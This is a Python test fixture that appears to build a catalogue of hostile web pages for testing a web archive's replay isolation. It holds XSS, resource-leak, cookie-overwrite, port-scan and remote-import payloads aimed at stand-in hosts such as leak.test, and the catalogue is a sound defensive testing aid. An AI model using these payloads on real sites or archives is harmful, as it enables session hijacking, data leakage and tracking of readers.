"""Pages that try to run code, to reach other hosts, or to pass themselves off as the archive: name → type, body.

Among them the five attacks of WARCgames (scripts on the archive's own origin, cookies, requests in the reader's name,
scans of ports, content that tells archive from live), in many spellings.
"""

from __future__ import annotations

from collections.abc import Iterator

_OUT = "leak.test"
_STYLES = (
    "@import '//{}/a.css';", "@import url(http://{}/b.css);", "body{{background:url(//{}/c.png)}}",
    "@font-face{{font-family:x;src:url(http://{}/d.woff)}}*{{font-family:x}}",
    "body{{background:image-set('//{}/e.png' 1x)}}", "body{{background:-webkit-image-set(url(//{}/f.png) 1x)}}",
    "body{{cursor:url(//{}/g.cur),auto}}", "li{{list-style:url(//{}/h.png)}}", "body{{background:u\\72l(//{}/i.png)}}",
    "/* */@import/**/'//{}/j.css';", "body::before{{content:url(//{}/k.png)}}", "@namespace url(//{}/l);*{{mask:url(//{}/m.svg#a)}}",
)  # fmt: skip
_ELEMENTS = (
    "<img src={u}>", "<img src='{u}'>", '<img srcset="{u} 1x, {u}2 2x">', "<picture><source srcset={u}><img></picture>",
    "<img src=x longdesc={u}>", "<iframe src={u}></iframe>", "<frameset><frame src={u}></frameset>", "<embed src={u}>",
    "<object data={u}></object>", "<object data={u} type=image/png></object>", "<applet code={u} codebase=http://leak.test/></applet>",
    "<video src={u} poster={u}p autoplay></video>", "<audio src={u} autoplay></audio>", "<video><source src={u}><track src={u} default></video>",
    "<link rel=stylesheet href={u}>", "<link rel=icon href={u}>", "<link rel='shortcut icon' href={u}>", "<link rel=preload as=image href={u}>",
    "<link rel=prefetch href={u}>", "<link rel=dns-prefetch href=//pre.leak.test>", "<link rel=preconnect href=//con.leak.test>",
    "<link rel=prerender href={u}>", "<link rel=modulepreload href={u}>", "<link rel=manifest href={u}>", "<link rel=import href={u}>",
    "<link rel=pingback href={u}>", "<link rel=stylesheet imagesrcset='{u} 1x' href=x>", "<body background={u}>", "<table background={u}><tr><td background={u}>x</table>",
    "<input type=image src={u}>", "<script src={u}></script>", "<script type=module src={u}></script>", "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{u}\"]}}]}}</script>",
    "<meta http-equiv=refresh content='0;url={u}'>", "<meta http-equiv=refresh content=\"0; {u}\">", "<META HTTP-EQUIV='Refresh' CONTENT='1;URL={u}'>",
    "<base href=http://leak.test/><img src=rel.png>", "<base href='//leak.test/'><link rel=stylesheet href=a.css>", "<base target=_blank href=http://leak.test/>",
    "<svg><image href={u} /></svg>", "<svg><image xlink:href='{u}'/></svg>", "<svg><use href='{u}#a'/></svg>", "<svg><feImage href={u} /></svg>",
    "<svg><script href={u}></script></svg>", "<svg><style>@import '{u}';</style></svg>", "<svg><a href={u}><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to={u} /></svg>", "<svg><image><animate attributeName=href values={u} /></image></svg>",
    "<iframe srcdoc='<img src={u}>'></iframe>", "<iframe srcdoc=\"&lt;img src={u}&gt;\"></iframe>", "<div style='background:url({u})'>x</div>",
    "<div style=\"background:url(&quot;{u}&quot;)\">x</div>", "<img src='&#104;ttp://leak.test/ent.png'>", "<img src='\thttp://leak.test/tab.png'>", "<img src='ht\ntp://leak.test/nl.png'>",
    "<IMG SRC={u}>", "<img/src={u}>", "<img\nsrc\n=\n{u}>", "<img src=\\\\leak.test\\back.png>", "<img src=///leak.test/three.png>", "<img src='http:leak.png'>",
    "<noscript><img src={u}></noscript>", "<template><img src={u}></template>", "<textarea></textarea><img src={u}>", "<!--><img src={u}>-->", "<![CDATA[><img src={u}>]]>",
    "<style></style/><img src={u}>", "<title></title x><img src={u}>", "<math><mi href={u}>x</mi><annotation-xml encoding=text/html><img src={u}></annotation-xml></math>",
    "<form action={u}><button>x</button></form>", "<button formaction={u} form=f>x</button><form id=f></form>", "<a href={u} ping={u}>x</a>", "<portal src={u}></portal>",
    "<img src=x onerror=\"this.src='{u}'\">", "<fencedframe src={u}></fencedframe>", "<link rel=stylesheet href='data:text/css,@import url({u})'>",
    "<script type=importmap>{{\"imports\":{{\"a\":\"{u}\"}}}}</script><script type=module>import 'a'; import '{u}'</script>",
    "<script type=importmap>{{\"imports\":{{\"./\":\"{u}\"}}}}</script><script type=module>import './b.js'</script>",
    "<iframe src='data:text/html,<img src={u}>'></iframe>", "<iframe src=\"javascript:'<img src={u}>'\"></iframe>", "<object data='data:text/html,<img src={u}>'></object>",
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{u}\"/></svg>'>", "<img lowsrc={u} dynsrc={u}>", "<bgsound src={u}>", "<isindex action={u}>",
)  # fmt: skip
_SCRIPTS = (
    "top.hacked=1;top.document.title='hacked'", "parent.location='http://leak.test/top'", "location='http://leak.test/here'",
    "window.open('http://leak.test/open')", "document.cookie='session=evil; domain=127.0.0.1'", "document.cookie='a=b;path=/'",
    "fetch('/',{method:'POST',credentials:'include'})", "new Image().src='http://leak.test/i'", "new WebSocket('ws://leak.test/')",
    "navigator.sendBeacon('http://leak.test/b','x')", "new EventSource('http://leak.test/e')", "new Worker('http://leak.test/w.js')",
    "navigator.serviceWorker.register('/web/20210501110100js_/http://hostile.test/sw.js')", "alert(1)", "document.documentElement.requestFullscreen()",
    "for(let p=1;p<20;p++){new Image().src='http://127.0.0.1:'+(9000+p)+'/'}", "top.postMessage({wb_type:'load',url:'javascript:hacked=1',ts:'20210501110100'},'*')",
    "new RTCPeerConnection({iceServers:[{urls:'stun:leak.test'}]}).createDataChannel('x')", "history.pushState(0,0,'/fake')",
    "let c=new RTCPeerConnection({iceServers:[{urls:'stun:leak.test'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))",
    "if(top!==self)top.location=self.location", "globalThis.top.location='http://leak.test/raw'", "import('http://leak.test/m.js')",
    "import('//leak.test/n.js')", "import('data:text/javascript,import(`http://leak.test/d.js`)')", "(0,eval)('import(`http://leak.test/v.js`)')",
    "import(URL.createObjectURL(new Blob(['import(`http://leak.test/b.js`)'],{type:'text/javascript'})))", "new Function('import(`http://leak.test/f.js`)')()",
    "new Worker('data:text/javascript,import(`http://leak.test/w.js`)',{type:'module'})", "new Worker(URL.createObjectURL(new Blob(['importScripts(`http://leak.test/w2.js`)'])))",
    "new Worker(URL.createObjectURL(new Blob(['import `http://leak.test/w3.js`'.replaceAll('`',String.fromCharCode(39))])),{type:'module'})",
)  # fmt: skip
_RUN = (
    "<script>{s}</script>", "<img src=x onerror=\"{s}\">", "<svg onload=\"{s}\"></svg>", "<body onload=\"{s}\">", "<iframe srcdoc=\"<script>{s}</script>\"></iframe>",
    "<details open ontoggle=\"{s}\">x</details>", "<script type=module>{s}</script>",
)  # fmt: skip


def _pages() -> Iterator[tuple[str, str, bytes]]:
    for number, element in enumerate(_ELEMENTS):
        body = element.format(u=f"http://{_OUT}/e{number}")
        yield f"element{number}.html", "text/html", f"<!DOCTYPE html><title>x</title>{body}<p>text".encode()
    for number, style in enumerate(_STYLES):
        sheet = style.format(*(_OUT for _ in range(style.count("{}"))))
        yield f"style{number}.html", "text/html", f"<!DOCTYPE html><style>{sheet}</style><ul><li>text</ul>".encode()
        yield f"sheet{number}.css", "text/css", sheet.encode()
    for number, script in enumerate(_SCRIPTS):
        for at, run in enumerate(_RUN):
            yield f"script{number}-{at}.html", "text/html", run.format(s=script).encode()
    clobbered = (
        "<form id=archived><input name=src><input id=archived-url></form><img name=frame><a id=location href=x>x</a>"
    )
    yield "clobber.html", "text/html", clobbered.encode()
    fake = "<header class=bar><h1>Archived page</h1></header><a href=/ target=_top>Reading room</a>"
    yield "fake.html", "text/html", f"{fake}<style>*{{position:fixed;z-index:99999;inset:0}}</style>".encode()
    yield (
        "drawing.svg",
        "image/svg+xml",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="top.hacked=1"><script>top.hacked=1</script><image href="http://leak.test/s.png"/></svg>',
    )
    yield (
        "page.xhtml",
        "application/xhtml+xml",
        b'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><img src="http://leak.test/x.png"/><script>top.hacked=1</script></body></html>',
    )
    yield "utf7.html", "text/html", b"<meta charset=utf-7>+ADw-script+AD4-top.hacked=1+ADw-/script+AD4-"
    yield (
        "utf16.html",
        "text/html",
        "\ufeff<img src=http://leak.test/u16.png><script>top.hacked=1</script>".encode("utf-16-le"),
    )
    yield "polyglot.gif", "image/gif", b"GIF89a/*<script>top.hacked=1</script><img src=http://leak.test/p.png>*/=1"
    yield "plain.txt", "text/plain", b"<script>top.hacked=1</script><img src=http://leak.test/t.png>"


#: Name → type and body.
HOSTILE: dict[str, tuple[str, bytes]] = {name: (kind, body) for name, kind, body in _pages()}
